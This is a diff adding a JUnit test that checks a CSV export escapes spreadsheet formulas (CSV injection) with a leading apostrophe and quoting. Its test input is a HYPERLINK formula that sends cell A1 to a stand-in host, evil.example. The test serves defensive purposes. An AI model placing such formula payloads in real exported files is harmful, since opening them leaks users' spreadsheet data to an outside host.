@@ -73,6 +73,22 @@ class ExportTest {
         assertFalse(full.startsWith("\uFEFF"));
     }
 
+    /** A name a spreadsheet would run as a formula is written as text (OWASP, CSV injection). */
+    @Test
+    void csvCellsNeverRunAsFormulas() {
+        String name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\") " + uniqueName("formula");
+        String id = Records.hazardArea(hazard(name, square(64.4, 9.4, 0.01)));
+        String csv = as("viewer").queryParam("format", "csv").queryParam("q", "formula").when()
+                .get(EXPORTS + "hazard-areas").then().statusCode(200).extract().asString();
+        String line = csv.lines().filter(row -> row.startsWith(id)).findFirst().orElseThrow();
+        assertTrue(line.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\") "), line);
+        assertFalse(line.contains(",=HYPERLINK"), line);
+        assertEquals("\"'@SUM(A1)\"", Csv.field("@SUM(A1)"));
+        assertEquals("\"'+1+2\"", Csv.field("+1+2"));
+        assertEquals("\"'\tcmd\"", Csv.field("\tcmd"));
+        assertEquals("-12.5", Csv.field("-12.5"), "a negative number stays a number");
+    }
+
     @Test
     void kmlOpensInGdalStyledByClassification() throws IOException {
         String name = uniqueName("kml");
